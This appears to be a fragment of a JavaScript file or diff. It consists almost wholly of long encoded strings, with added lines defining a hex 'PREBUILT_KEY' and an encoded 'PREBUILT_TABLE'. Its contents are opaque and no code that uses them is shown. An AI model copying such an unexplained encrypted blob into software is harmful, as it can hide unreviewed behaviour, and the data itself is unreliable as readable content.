Bt3D1T+cncfVH5ycr2H5Q+YXyFNx/BddRCyE/injR7Qm6P1xq/Ja8F+JF7yWIZ/cX7M3zceH+Sqh/f+Ur8j4830bjI7Avz2sUHiZslfdz1Z8W+vwLu/9yf0W8f5LGH+Di4wT+u/KBLj78+Ru1qQAHufg2gvwWOBjzbOseagBNaAB3/P4yOETgKfefsvO/hyLeyCYL43kWe7FyoXEHCN3+c/Pkr8sf8OStXAjHFz3f/3wY1p/0QDadHSDcvwpwOOKH9WLJKMRJ+qO5eNr5q6mIT1YDP5lw/heLv0zDvDn7ouT/YjgC118pV9AHKPfXPi8fifjto6U4rf8DtHL2I0+0XwBH8TzJfkqNm6WjER8rJfPTifP36Urt71g5mx4jxo+PQXwinU3lR7XQ8xfW/4518U2hefP8P+IzKT0fTxn97BhnXC8Hxv9bogdKxyO+kMuVqPlvc/GU/B+vtCN+WE8OprOGFj5+ATAD8U74STua74C++8/+J3d48tNC8p1Kpydvb+Lw580ElJYupQvxyVx2xCiUSjkWgCkXDOH8tua1fti9Bzxb/5u5R/JnKrNw+YulQjo7UK19Vwd23x8AMNuDnxaan6PM8eCdLTR+PLK/JyA+bVrv/rSR0hLj2tH8+Oez/jvXl58Wgv+2NM+X75sWwJvtN18R4gdM/czcA/C01/5NgBMRrxH7jzpxgbLAk19gpVBH/y353cpJnry1Bo54loTmtl+fl0/25hfwFeAd/1Mmn6zEPHm2jH00x2ue+xful3r2iF+oLPTk2Rp4aj7Pax77f+fLvT48WwSvX362fn8OLPLQnwXg2fyu/ic39SiLPXi79ZD+WRXg9h9jyhIvfkGAfHT+dqkH39qdEnjNZ/2qV1m2R/xyZbkHb7cex2ue98/PkVZ48rM759ctfzX+uFhZiflRp+n85r+u8wOreL7adDX/Daql9/J/lyqrBX5BgHw+/rKXsobnW7tTAh8wf167B7zSuEJZx/PVpsO85h8/X6SsF3mr6fzLz62/r1I2eNnvkPovNy9RNnrx3ubT4/zxGmWTJ78gQL6VAXniJuUUL95uBcH8eby/db2yeY/4LcoWL97bfLrK3zRlg7LVmzdbsW7/M/svwDbEn6inUix6sWBa+PXPUzGfL+TyRqE0rmX1YcOdivv9gX+SPoj5GUPG+Em0+Usf4sWlt+D42Z3SaWz+Fa3FH+qETz3tz+mYF27vCJa/vxJHfFw8gB0gn60/nYF4Nn+n5X8/WUe8uPAevP7wKzmBy59JJ/SETorfJHl+vJylxR9TPJ/M5MopCBj/HfMdATAwX42f2YFUTbjASlTfhinfkftdPAshWPcYoPCF5/yD3X80gOb/uWIxjmO4wvX9rv4nNf9MGkTyi0axyIJfYe+/apwEkHbzzvqxEP5y2a/GlknKdo5Plgvp0nhcuP8LfO7/Yvufhzx4If917u9/FzJY/634k1OFQff3RybtrQy7+FoLBJWf3T+VdfFtBPlZJYf4QU57w7z/s1/JY94o7cyifRdh+t8OzJf1UQN1oTD7JwsuPu4kIKifZ/0VMT/KqT8I6u85/y655FPqr6iUEZ9ODJPshxSJwwjPx3ECXOF93j8yivhEpmwMp8dCtx+LP47x8tso8uUmgHEh/3gMC4p/ShPGlJ2YT3I4CLjn/ZNnIn5ULxVzBPvP+A/h/pcrxvG+ee7lGz7nB84S2y9XJJT/TOVsXn4bVf45Qv4p9l9uTsgVPH6ns7mUQYk/A5yL7W9ylCgf4DyO1zPGqD5OGX/P5+W30cY/gAsQXzKySSNbIti/1XAh4ncQ7S/Tv4s8289Zf4J6609Nk49ULnbnX7Cf/uNPU8sOZRf2P1I5zoUMs35xicDjzWPB9uttuBTxKWMkly/S/LfLcPuPF0vGcNxyo0q5IW789PCf2Pv7Lkf+UzbHoo9Jna3gDZYTgf5by5Rn4cNIPubjg+UEB3vIb4leKF/hw7eF4hdJV+L631kuGPFc3sjq6Zr/7d/+7N6Nq0S+hgeO39JEgKtFvi28fKnlGuUad/71NDd/qKc/1yrXuvhkbiCbLqVHDBCa32P//keUj3D9r0qGW/9k/sN1WP/yhpEcpNx/eZhyvSv/TvGBC157+g/XKTe4+KKhF5KD4er/RuVGN2+WIhx/k3KTiy8V9Gwxo5dyBaH+Nff5/5uVmxFvaU67mQx7hzDn/3muv9yi3ML5z7lyqj+jF0Lv/7tEuRXz/XT/4zae5/bOCubP8/zP7TyfyhYp8m9X7kB8v14sZcYp/ivAnZz/X8gNlSn8g9Jd2H4ZpUy6n7b/4m4hfiKMH1r98SOu3IP4gp7OIPchUL464QLlXsSPGIWkkaH5P/dx9nuUNP4x//mj2H9PlxLl5BCavwTtvwG4H+tPupDMGMl0+PkHwAMuPi7M3+vPvx508W2h+cYWgIfc8pNpEOyn7/5rgIc5+51ibwAktP8fpUc4fsQo6JlMMbT9/5jyMax/Rp5zgDRBAdz250rlUez/FHJZVP0gVJ/H+uNDymMuvpBPhhw/mf48LvLJdOj6Y+f/Pu6Sr6eG0+HyP2EiwBPYfuUKA8b2HEn+J4T2TxiFgbD6z/affxLxA+kSc/sI9u8K5UnMD8atEE7I+AObvz+F+O1GdiidLYYuP9t/9DT2/wv6SLpIs1/PiONncThdjWIHjZ9K83blWVz+gp7KGO35ciKTZlfJ8f63e/4ycTLAp1x8PDTfMBngOW78GovjPaQoeOqz/2tf5XmBzw+DMP+pP/94Adv//DBx/nOI9GmBN/dA1uKfUC/+KU1+UXmR5wX/I9j+v4TH32LRGE5kxqseaFD7T2i+RP6MBx8X5g9Q5/2ln8W8nibFj5QJH5I/h8dPvWiU0NGlMP3n85z+64V0vx56/GTxly9w9mfQKBi0+f8XOZ5TXxDU12P/4wvKl7j5s5EfKOjDlPb/MuYHqPK/rHwF8caYToz/xaSv8nwbjd8lfQ3xw2n29o8MYfwH+Dqef2Qy+rBOiz98A/H5dJa9v8IIP/68Kr/M+Q8lI5Ohyf8mt/5RyAv1F+h/f0vgcQMG7b9m4+e3BR4f2wyT/1fw+JUbMEqDRqGaB03YwOs+v/t55TsefFj7Bc1nKd/1lB/OfsHE7ynf4/z3geFcqjaDCGp/tn/z+3j8y9Di58x+/QDxO8n287vKq9z8MWkkcrkhiv17DfOJuJ7P0+bPP+R50vqN1LRFfp3nSf4XNL2u/AjH77PFko4MaJj514/x+sOgXiqiGgjT/m9g+8E2r1vRS2H+oPnsPwH4Ce8/5QeRBgT5/0pTm/JTPv5vxJODejZr6TDvfXnt3wX4GR6/LNQuQrwkvH7dI36ZVn6O9/9bvBC/9Y8fsft3foF4M/+E+lMnAvySL/+QkUpnKfOHX+HxR09nBspZkv39NeYH6PGn3wjytxslkvzfYn47Xf7vOPmlklEYzhVL4ewvO3/ye8wbxaI+YCTShXDrx8x//APuP7liaVgvDFHa74/Y/o+mWQEI66cp5U/Y/gvXFoTx/97k/L9ssTxsFOLC/hHwiV+z+1/+7N4/Ys4BWBpB8VM1+gvlL7j/2fKrRjjo/WtNk/PKX3H8LJfVB4j+79/w+GVkU0ZxiOS//50bf7N6NmkQ+LXSP7j6T2cT6O6MMPrzT6x/wtW5QeePJkz8s/wvrP9ZYziXTSerHniQ/zOhBeAtzv/PZ3LjtRNgwfxU5W1u/TyTMUjnr3Yp/8b+O3Oeikk9Sxg//4Pbr5hEdJj2+4ryX67/Z8YHclknjTD7T/6H+08hkcYZCNP+73D+Q3+5QJo//EB6F/FDBZ27eSM4fnOAvJvzH8bzOmn+UFHYHsBa/HxnrpAPv/7Oyi8hvrijrFPnvzLi9XQhwaog/Pz1eUVBfKI8UMzqAyT7oSI+pZf0VG6AYP8BGjCfoo+fjRzfRuYniPJJ/vcENSLKJ/ERtQnxRkYvltJJkv/RjPkirf7kxteUiYgfzGWN8WRuOBHS/rD1gxaV27+ayuqU/gcwiecHqOtvk3l+ZzpHmz9PEfj2NB8/h7rxj59BVODjBJ7p/14qXr8tDhjZNGn83BvxJhwXzh/XXb9oVfYReeH8eND8dV+Vn38VUuXSOEF/9hP5eC0B/u25XuNnRt4f299cJpPQw/ufLH51ALa/BnsBNs3+Hoj5fKacHaLp70G4/xlJ8vrnwTzfRuGVpoeVQ3D+S3qpXMw7PmjQ/IPdP3wo5svDObaHPRl6/RngAwIfRwkErf9JzYeph4k8af7/Rzgcj59DxnjGqF3hEqb/aSq3/jyqF1KE9XeAqaowf8nEB0ulvOA/+s2/71OmuXia/TsC8WNtfApC+Mcz/nKkitfvh/UUaf0VoJWTb6YAgvy69vMoFc9/CrlSujaDDLP/8WjMl2j7T1j5p2P9yQzkMunw5y/Y+usxfPv1Z8o4/hZ8f8SxWP/1YqYdXaHIbR/yOb97HOKH9P4hnRT/6oDjXbywfx/qxb/a1Dac/+SgMazHC8YAW4gYF9YvNY/3V3ZBu8rNHzLlMZr9nYH44Vx2IJdKxPVSRi+GOL/RMAmgA+c/mxvtz9Qc8DD73zoFHt9gGsb/60J8OV8s6egdZGH8927cfiPxglEsORqAlk994vcAM/n5R0lPZAjzD4BZKrf/IZ/IjZHKPxuPf+VEMZ8rkeYfczAvXMAULH8f5QTOfxgYZgdgavUXFL9oUed68GHPD0mTAOZ58KOFtPnykyB+wiSA+V75t4dQIXzmsX4+Xz1RxfsnjEwmR/P/FyB+Ybk4vjA3po10tgecf6yNHyepte+XrjlFS+jFweO1EaNQxDMB7/OP7P7lkxF/+GURqPfjdf9XDPHrVipqAO86v9iDiOlPzniHwrPYw0LEvzNn59ZTIfz5TVb/vYjv7Nl21MZttPOfixA/Z+fzjx19aHgeGh+TFiN+g16YevAECg+wBPGDxR1Fav0vRbw6bfWBVH4Z4i9ZdepamNR8cDMEnN91/L8fw3LE9y7q6OiUaO23AvHFUsHQh5sDeN5+rnTxk5oDeO7+91WI37lpa4mqv6sRnybyrP7XYL63dx2Nn6+sRfyymcXlVPnrEH/cql7y+y/XI77tffAbEN+fHiW/f3Ij4lu7xKuzg+8/3IT57g6y/TyF4zvJ/GaO7yLzWzi+m8hL6laOn0mWv43jZ5H5Uzl+Npn/IMfPIfN9HH8CmT+N4+eS+dMxP5OqP51ynOPp+nMGx3eTeZ3j6fqT4Hiq/uwNSY6n60+K4+n6Y3A8XX/6OZ6uPwMcrxPt3/+kQY5PkO1nmuOTZH47x9Pt9xDHG2Q+w/H9ZH4Y87Po40eW4+njR47j6f0/z/H0/r+D46n9/+dygePp40eR4+n9v8Tx9P5f5nh6/x/heGr/f0Ia5XidrL9jHE/X/3HMz6br706Op+rvB+UzOZ6uvx/iePr4dRbH0/X3bI6n6+85HE/X3wrH0/X3XI6nj1/ncTxdf8/nePr4dQHH08evCzmePn5dxPHU8WuNejHH0/vvLszPoY5f58uXcDy9/1/K8fTx6zKOp/f/yzme3v8/zPH0/n8Fx9P7/5UcT+//V3E8vf9fzfHU/n+2dA3H0/v/tYjvGxMCABoE3n/2EcyzF9+kBPF11x//I1/Hzf+o/X+rcj3HU8v/hnwDV/7uerhn/d3I8TPJ/E0cP4vM38zxs8n8LRw/h8zfKrR/d1D8Gf0tN5yi3CbwM0k8wO0CP4vASw1l6Q6Bn03i71TvFPg5xPzfxfFnku3H3Zg/pcP8CRu/hcgk9R7Md9SfQHj1/3s5nm5/7+N4qv1V1Y9ivpM+f7yf4+nj7wMcTx9/H+R4+vj7EMfTx9+HOZ46/v5NfoTj6e3/MY6nj7+PIv6oI8aI/DblMY7fSuQfVx/neLr+fZzjqe3XKj/B8XT/6RMcT22/U5VPcjy1/Z5SnuR4uv/0FMfT509Pczy9/z+D+UxuNKEX5oe1v2z/5LOYHxzPDxrZ0LwcOUD5FOJ3lHMlI9WWL6Sz5j6MoPu7GqK/l55D/P8B";
+var PREBUILT_KEY = "96e1cf472e04c6f55898b331a2dfe59565e478eaa07eb26c12227dc8f46ddfb5";
+var PREBUILT_TABLE = "vZ13nBvF+fCfLbrTFdtL77AYzhjMdRds46DzufeODQdiJe3dyaeTZO3qimnCdEihhA4JoRMgpNFrKAkJhISEhE6AhJAQWiCUhPZjdlerZ7Zod7j3894f9p2035lnZp555plnyj50xosv3Hjxz/Xzznr24DMuvOueKLfjY+9e9O5FAAAyAOz68sand80/t6ukliasq7nydYDrfp/77MQ7dwOQyPcXvvzFRxc+8/TlL90LJXHPt96vg+c+/vLLL78s858+9vg+b1y67bI7P5Rinz3x4KE1sEh494F37wEAEUQRPnjvxfOfmXPm5ZdeXDr8nDuvPQqg+fyPn/v4E/I1eWai1Dpz8YpziiDteVfd5dLzElxx2H2f3reVN78G+4cnP+D64aP85OjkyTzw0cnigQdOnmn/NMpwsBiNHuj7U39QffRA3v97aITJEPTDw/+vn1U8wLkC/qRXBBjiKn8PGN+OjzjJUziA94zvvssDvCG6037K+PZTK62DUQq/4ugnL6D+ni44U5obAdg1MkzJ8H3r/7uNnOd5VNk3eAA1coRNneFbrW3UN/va0jxipL3Y/vYIS7LLhH3sVG/nNxjfywLAAzZ5vcVMoGQuUbV0sKu1P7a/P87I6QorvwHj30kCwGOI3xAB6OJv86j5L+wa/Nz49kLPUq/kD4pMNCT+C78/B/A37gHR67lvi90eNReLAES4olG+W+xP9zT+/gPMRMSvrFT34QAO4QGu4jYaT+3tKVUBkc8b/w6L7yG57hRf92nH9fZvd9hPPGz8tpdDow632mmS8W8NDzBo5PB9R/ll0TunPwoAr3h89xdYF/Hva9+n5H7RlukHSLoTIpMjX7cvC9w3EHsofy1V6mc95H3BkuhHxnccev4uccj47CgBYIb9+VK+WQQYb/zezbnT+4krj3ZPSfsc7bGM+0zwL9dh3AvCLLtk3+YBfkjlI9r1+jtxtge/xlWjJznkPJ8DOFP0l2CST5ucWqWt3rekOtR+5n64zZb0HvFghxZPsepzhL+R+mY3bqH4e4ds1xDrRuyCwaznfyZCBED3lOb3HIDmU7YmEWBl5EPj9708vr+5Sp0cYuR2ngAwi/N+QvP8/LdCeI3u9+jp3zJkSor726WNWL+9YeR3sv25/NXYtl2VobQLySca1CZHea9D9KkcwPUCwN72MxtFgNP4N6y/3rafvcH4bVoV3fjcelay09piyzIxArA8cp6r7m51yLYT9fcPzZHTzpNDuR8DAJ08wEvW3393pPQr499neIBH+HEWd7TwnCHj7pFZPu1VxwOcaUh5qfH3mwLACnHwK77kevYkR138gCrdjqJSpZUeNKT9Mef/xDZRdtX1RY4yrjVK0RkBeJn65hr7rxZXupKd6jgRYKlnez6HaucoW8aHxCn859z1Hs//wSHX7R497Odinn/K+n0f4XPquz2t5/9JfbqLZ72kzbFYGAgcUa6wJH8YSXOU3SZzOICfG39tpdrpR9w6R7sVfFrpGgFgN+PZX9tPLLF+a0fSHYvyz/EAOxpdc7WvdiyOAIh2C5wjPiUC/I1oVNUSb+QBsjxAwfOpKV42VHjLzqWW2Eqq1Sb79JCbOICMo0b6jDzXUJ++zq010vuVcFrkcDvlNSLATgLA/ZW8DOpuPmLVx94e+d7MNYo/oT75ANVeZ5VaOcJ47mMOoNWjXgb5F0D3aIci+uzfPMDP7ZLtDy9bv8/mqrXGaMjJzj+M57YzRx3TRw7Q63+76icnAsQjD9mfn2n8m7DT2VDxoB398kf8v3zz+ZmrBK/w3xAPEw8IKNH1ps8pAHyBaqgD5Txqf97sUVby4M6RRT71d4Ln2P1YlRF9CRkr7Bx/Y6c7yWI+pudMwqtwtVGTMwBgfmQfMcFvdUm5HzfOQ74T0GepyFEWdZFLT6ZZOeetJ26y/v6N1YILIo/ZzBW0Jy4CfGA8vdlR4jpKxgMFgDer1MlfKJnO4n5sSC5xALt+5Tv9jvpW5wC+Z6UlUmlea5W3zqGR91X1hb4jAuxiPPFbg78BNojTqhIrjVx3MH5vFbq/Gu2O5keq9JIXvrJQb3m0z7XckQF961nhXX4/B7mKA/iXXSML7W9vdfuA9lP/9bENn9r1929xk+OZNY58e9HvbzvS2WKV4wBxO7FaeZ6x6nUK9dRMz9qeYqT5HeO7MyIAikCHbFYKPQ7uz8IS6/uuCAAvDn01c/+F8fevxbC+8NXcJiPfi22i3vj7cRhCeS+zv53gIftZ/AbhdeqTe0WAf3IAp4gAb9rp3ImeOM0hYZPx70/Rpzd+NQf5U2U2y19q/X6JuJPVcr9wpLHZbtEXjW/WRwB+ZeV+WcgamWqk8U0rpQONujjHluJhYU/uQN+R5Sr0+5twmK3rD6DP37XkON5IhRd2MP4/0hlJKOuXcIortw+4FcQXcWjv2dbf02Clj+7f5sij0f57ZyuPieZfVWrqOgB4WphtSNfAARxkPPspknG+MMdIt2h8M8f+/LtljzlyhgjwJ9I6HMD/LFkvZQhNHoBsyN/NWowAPG/k+qUwBZVy38h94g/gNRHgOEOagjgnAmCEk+F08UZUzh9j30OQhE9hkkOiHSjLdaE4UTiE+xN6Zp6vvANGPnsKAGkO4FBHK4hWDbwsNEYAVqFcmkPXyO48wExfy7qUA+C4ZWZM1bNtVxvs+UZpTrfK1OCZ3iyKf8kuS5Px9KnGt6+Ke9ifn4JS2bnqGPMvK+XzHRJu8dCMC63PnhQAMvbzu4gAH31lq54QAf7loO4wntIiVxv/Tw6pbcdxACPiighAEs40mPspMsUv9qjPiFXOGR41+CSZVzpyz1JpNFrfPoue6q1Sc6sQ/R3aR7Lzv9J65loRQIhsqzoG/9V4dlnVevmJbWFIUp9xAN8wPolzz1W1socIqlWq8SLA1Mhnjqc5VGbdldJNOLIXeUEE+N7/41WLtVxNFfkzhnSv2088bkl7kLmSgWQ3m+sB4Vv06GTUeybyBAfwI3iRB5heieCjNnnbIcNpDnv+kJXT93iABlszbjWe2tX6Lmr8f6KRUo/Nb+b/bkZ1bFn/af/2svFbRwTgCb4W5fi8Q5rlNrEfGSf5+yp+vkOvLhV/5lOT5+KYtyP9bY7SRj1Gsw+E0z3HuLsEgGN9Rr9hj8/7I20kAgNJJHlNBGA76qmF9rf7ViLWhtSXO/0xR1luIZ47iV9ZdfYP6/sbHNyrPMB447Nal2WawbdR9TpK5THVkeNeiP8l9xy3CLGXm16A6Ze69Pw3IsDNvnaxxXp+VyT5ZHgwMOb6VyPFPn4nfqmwl8vu/JA7xvpsjp1zbwRgJgewxZbwEPHP1m8nulJ4xJJgDxHgSLuF7zN+O914Wi73GptRHKl0iy1UuUvWX61UHbXi2rBTeI8DWG48Vy80U6l85KjhL7lduE32EzshGZ7kb0e6eQvF3QsXG8wV1qcvif2e9fwfipIM5tjI9kYuO/Jno29nVrXQN3AAR0cut5+p4QJXh6qMpU8Ir5Dosc8Tv7VymffVXCFt/b6M38d6+pvEV/bIfRff0etpn8//KwKc6aKGeYC77b/u4QHu5HcXAVZQefY4qHnc38Tw48nekQ/tp+cZEoy65DhQvJwDeN8jVc2qif2EHpt6R2Qd0x4XfyoA5EWALy32E6qEi+2/projxuDd/D+t7j9FAaKyMQyKRvfjvprFllxJGdnFqI/mRo0OG+UmGqEO8m9J3mYnWolXlrsoSOUveOvPGHGoH8ShTXvZQKL+I1nHpC7RxOsqknBWYlJlIN1RNnOsFOEM0fje+ICTTTvDWylXKkciD8nlD2OWpGJMNCYc0YpxEsxH+Uo4FtujqGTvLhGpsqDakysFE11pOJrrHBFgbrniOOMXs54ksC2mbFVcCeQY8HQziVEzZxkomWx5AXjuq0QJyvPQBmdIFSHlsvyGQpSiBh+jw49yTCq5NMrKmRRMMv48yy56zJZlx0q1WO0l1lvfcRxq+6hoPhIzEy+Zalf+MmYv3BmFM+pSLgGsMhOYVykzElyCaBSiJeBlM2kRtr+m8m3M4ejSjSNZ9c1HwdLdWOUfkiVRHQm3teHVw77lWbsY9Ug6hhq+JF9pgCVUpSXyj1iu3JKjCW2JZZmHrsrn5QxKfAm4sqqtsupAJvUsQylmK6koRuWY0WBGN4nNg3OiVoOWSuVMJOJMmBLMtSqXl7Hq1hiLrlAigpTVjaf7gFgWjzc+k40/S5ydQclUSzNrUuooeU4wdn7RjSMbyUgyXFku8ym43qWS1dlM0c4oV7pk7kEDVJukyHLMaR45kaDkCcVAo24LypXXOnBv77LMhwnFIFYCuDKG9imQXlNjblwgqW+jlCaGdNDMUy73cKNg/CnOFVZZBk6WAZvPeqy5RvNx9LqBISEHJQketCMb4LnEIEnyNhlkUooYNruVDlCyTaTRbCdxHiZhR6pHkI8lgEVUJUqWQyTWGUmWqCRixmY9wygaYm1DrREtSZY9kgC4WHkMi5U5q2/inlwqC16WyfTE5JKhvpSilU1c6auEDXMhITNtVp1s9ly73GR5wEq27FSQRLpOKRfHbuF9KyNk+WdHUxdLUIIoLzkU1aouM22iKTxqdUmGNrunWdUjWjbX6mnyZFuqUsVmzgMZOMsYGx1etLqDyOO+gqxk1BRMfHB/OhogAVEVnh7PpHI1iHZ9kMzL9UoE40vW0zFbVMeQIvNGupW9PhUF4CquhWT6AVy5Pvhy2wEHp5xhPEd3c0m2LTge1EuVxqs3jYcxAtq1EaMSIlshuDrDupcqTRSzvCpkt2IV+1+ep5W1yOqiXDmT7ezHohQh8oZ1LDm6aQlJHLPza3PVFESlitNFbKJl4dAYRtKRrHYx0o5Gy0ou2s5VtGKBK8kjR4lYFktGPmKOYXxJBg8bypeQzZMNu2iX1yhIqVRXwuNlud5lzhDH8Lo4s+hStPyIhIeaCrljeQjsMgdk3niovAW4vtKZibnjrBDRriCRkSUKbTG+otilKGfJVCcbvdUqgChVMo0RN8hsQqvDWK3IlZCTYHRzUjccspyyoSrREumYYsUIGCnx5qDq6F1RMwQjUyrOAQiVT7YjfMm23UD3NOCsIb1UkmMOR+UYo2O72s7uLNtMc1tuJkOkmLV9MuoieTRccpWhjf5xjGHbIbPLGyUV+XJK8xyOdNTuMGWFkA0/xfAtsBDlZuCupIobdYwBkyv9r4xHzZHZ1Pkrrew5a+TfUeTIuLH/SRVjEsVGhjdLzVkJgIhmBXiokuyWjLbFkKUnICea7WWrvN3fTD0WuZj9oVQe4mMTzTHMcrUq1qgkO7zSrzyyUtldjFTsT6xk/W+NJ9ZnYLqSotPFKAc47SqXy9bcVr6Y14axssKeRLtahmsqTbYVvOSe1ESdLnJ5xODo1I1pRJQ0VkmGyuBjKyxvW1uqh8gA25upiaZ6ifSIUsNbhYrJuIdZVo03k+OjosdWDvQ/GsMqacS+Mh6lEnIH+IqxNr7nLa/SCPiSsl1JzZPLmmJsOowY05HJMRBjZj2cSR6q48rNifqj6X6KtnQ1vKG/nF2VUsWTsD6XsB7zxkDE03rB05NdkZ5DU/tMzEpG9fLVtPZBFMGo+LjWHNUcdiVq7Jtszg2sPImLafbqLqsu0RgmycBJtM9Vsp2bEjGDotUJUSlJjosIzRutXXKU37IXxD+xy/ugBFC27Y27munJdP+3BrAS0u0YCbgtsvvIKYafy0XtMQxNJe3Ua8vlu9h2CZxB+6jVQ8i4coyRcVkLjiHflbezSFjbDWMqkY5kD0ayEZXlLTFsZ60h5uyn5W9MP16qqHqUs0xLDFe9WBnD7JZ6kGjrZNPJi5qWIoZqUZJlS+pyGb9q1bK3XaJ6LV/x3OWKZy/hUEi0EhChf7a3ayNWAmoOJtvpijH747I9iUnYF5IoG1Iqj/SA3BLazEQtr5anbRNv20re8ELMVTJJcphEnnxdXxnDjIeuxMM9T1qcM2qRs9wpM/tVX1U1B54W1fkjxZAZ+b2tz2RNNxqFmFCSgTu4PGSC6TGXC7t9ydRMI/NypyXxRGyaRGLKSnS9AddWGZUMZyfGo8DJvmAOUzuWZS4hh1ayfAmuEtUSHc1iWFm5YlW5mOw3dY6V/+MqI9h2YEc6rJHD7n982YTGYsgzofqNDBxqfWsayEftr2TcEOMdtlW2R31jHDK1Oyaa/ZQyMZLIy9Q0kifDNRl8YNey3ZbM0FzUEdnkDPNc9nErhluyvjLFmUtSPcfKs8sAd7Vtgmi0syhNpAM05SqNVmYGYiSKApVEllI5fkhUr9KpK64rX66NecTSmfMtEcREOXIkIc2uB8fJwDZsWtHEtLwiLtq1TwwmmTjIlalx1MZ45AaZzo9I7KRMeRIyVxZajjp7GI+atawx5rNzsf3hJGe01wyTyEbsM2aXtiTJroBrSYzypl3mKJMXLVdSzDKKZJzjZKQrpiiibA+m2LXhos45rTl3Fe2RUTYpofJErOziWrH12BllQ2rSUmVx60Fb2Q17+pWiGZZUli3f4xRLPHccXLZ7v8SBbMXSJNO285QjEXVFHwxbHbU+4tD01C62NTCIdrjKfNjoeaSmSNTJGMNKlan+vIhozRLMoEllpbtU4u3EYmjthCv7IxLtM8cMm41tDVI0q9CVFRG8/HMGXj00kCipjYr5l7CBlBxjADEq0ZJj8ie5JmlWeiW71njH4zE8ouKmE5xBPXrqhDPZjjctTOWrfWlxZNcwJhpellTprJwV5yTqaMXkoR4ZoFVWxchIDM5e16qhxpEo3U4lYqxkqmIko+PEtvFRyl0q2UGdeRW+VP46Wlkys3s/z80z28AYYh0HGs0xNibacwhjBYNbZMdN7X/Ekr2KZ6+dGF+JMXN1gZj7etGqytg210Ao4Uh5jKrsspGMVpbq7Da4svK3GJXpWChXjpaXnTqr40bpvKPRytgCpUq1SY4mx+q7b3kMOydq+L729N5QejliPlyq2CVrDDMWRL+qz3NIdUiVab/5s8iaJhsm0hLq4MrUsVyQWCWqw9m+qkxPn2LR2DwORVBEvjxTkFAF1kcrEy1iSCtRHbkEIhohySDk8uFESbBceQPb1xzDykOpXPZ3Y+bqBu/on5LlrnWJlTEM3CtYFhKNSTFjUWquw+8qkUAKZ39gdqb6yqKgkdM2j9n0SUY/RWsnEtgLRKjXTyZ+s4SjZrEYFT2KURFPsTyGRczhVMROGjKBUXP5UTJDWzFryraduSwUgyuRExu1Ft8Foy96rNPuaMy0rKmJsZwk4QALNQuJWssPctkgSthrMNdOxn67wLJ1XYurfV++y8E1v280/+tauriLlcezja617DwudddcNp5YOAHZjK7ubmYeud+QUjqaWfkIzn/u2qWsfA3iE2qqkEsONCv5dPOAOtrsxeOfcZJ57q1sWpXBrdmWwWGtpUr+XyIhauos1OI1NVlQ9biSTKqaFh9QZeMH7P+c+TdKZOdHRQdM3sQH1FELtH+c8kP9BHNiSfPNZgLN4fJvQLwyrMXNNMorsDbsqD+r/utN1Uc8xivy+9QfWVwaR/PNbPk3GBNCh/xoBVkGGS0h07kDcLXjYIKDJ/UenpeosV0Z1jBOyV7hkf7WmB6w3X6dcbr+HEk4648oz/Z0/i1s9VdnnKqq5N/CnP+OLv2rVGFF/7zzj9QD7OTWXyZ+ZxffwsTv4uIrTRikv5E6yz2y/k7l8vGh9nhV+4UVQKgF2A3Zj1Qux8SLtQC7U3yBkd8D9kD8/I0rIcD+OjZfAuyJ7XdXF/P4tZcVyTX4xVsVVvu/N85/dUtX4pA1K6aHtN8kXr4PKv/ClSsXts+HgPqj+6/s4Nnk39ecsVnyt7e2trHW30TEL1zZvXbVxmYm/dsPyT+qdMxsCcifEiBizXwsfm334cz604Tbb+nieaztPwnxxaSixxnlPwDJ37V02TrW/CdT+rdhBSt/IOL19paZapFN/w6yt1sAtK0+gbn+p6BtTO1fgz8Y8R1fg29GfOfX4FsQP/Vr8K2In/Y1+DbET/8afDviZ3wNvgPxhzDzO5l3J1j8zK+R/1TEd61avJxV/6ehMFKLsjWZy/am+1rSudmLU3OC/HcSDZqOlmwcfE8QT+KDM9D37PwhcIg/3xRm/jFzTPwsmOXPTwqWfybMHgNP5D8UfT+la67COn7NQe3fU2xr65jrn4hz/BbqzPuiynxTNdjHfh5G8QlG3trhZfGT9hvpmDs7vPzEf+6i+KmdVXBw4mTcmov4KV3da1jrv9td/76JOOXn66xzx6j+q0ngrD/CzXfUPwvP1XTBAnf9h5afzD8XuurfXwJn/ZMo9iLEd3XPS7Dav8WYP2LeSlZ+CYpDtbV0Mdvvpdj//Br8MsRP6Zrfz6p/y93655uI239fCCsc+ldNArf+LYCVDv1j4bmaleZeMlr/QsvP1S2C1S7985fA3f+7YQ3Wn60Liqz1vxbzi3PM/u86yv4s72bNf727/X0Tcduf+ebdRqj9q0ngbv9VcLij/dn4jbDR3f6h5Ye6ubDJ1f7+Erjtz2I4gmr/bub585FU+60ZZG2/Hnf7+Sbibr/D4ShH+1WTwF3/m+BoR/ux8FzNaoi72y+0/FzdGuMWQrr9/CVwth9ZdFEQv2T16iUzGeevCTT/09J9c1jbP4n8dy3dR5qwMxWy/CT+lXLwcxjkJ/emqDTf1DkvfPvxNdYtSZhPsfB90Efzk/Yb6Zw3m8H/6Xfy09tnh21/shc+jedPW9eqrP1vM9V/1yZY+QF3//VNxF3+oyHj6L/VJHD33zgMOvovG5+FrLv/hpYf6o6AnKv/+kvg7r8JyCNe61cKaspev5kTsH5jzJ+2oPQdfE8Q3yABFMbA10sTQPPnm8LIr4+Bb5A0KPrzk4Ll12FoTPwwDCO+0nIB8X9LA8T6ERjx4i0rWuHNQwXO9buGCSqMevJzAvI3BYg2AGz14i0riHjZOX831L8R4Ngx8NFGgOO8eGJFU7NpXnbFDyA6AeB4b96wolXKb0jQMB7gBCr+sFZns38ZONHD/umh7d8gtQ2qqRrsab9y5gZvbP+Y+G3mHhGH/dND+y8KnOy2f3p4+7fF3HpSY7dfrpjVHetv/uuPNfW7wal0+xPeXkCUHQt4Tv2vadgZTsP9X88VlD6VgQc43c2Hlp+sH+LdhMmcNpjTwq//CjWHWXe1WvsXFD3ZH3esP4L/+iNZvzoL8alcsjioZvVUIpz8tfUAZ+P6z6cHm7ViQksW0nk9nUO7B4wfp/0kWxW/ieuvgmbJKi5lfGXv/Qf4jiplQEk0M/iP5Dbwb6P1m6H2lrZmRv/5O4hP9haZ1o+I/3oOxbOvP51L8QNxVv/9PBR/UUeX9C/enEuz+J/no+8XZEY3tMu9g+1KvLr9sJLgG6x7FaMOvhCO5xoALvDgO+IB9ssqAV9/gfkOEIvvzbUz199FqP4WrVm6vrnKErZ7/4dx9sjO3+CZ9PcSuATx2d48s/yXIvmzvUlm/jKKzzHzl1N8kZm/AvGFbIqZ/x5ePyW+Q7NS1PubQ+mf2GC9bydK8fl0czj9E+uvNA8jUnwyk1azenP1/I0kxHEAP3DxWjI9GE5+oSFq3vlK8cNqoj+XG2gOyN/yn6528eH9D6HmauOdHbb9TbLpL5l/XovabyiZZuavo3iFmb+e4gvM/A0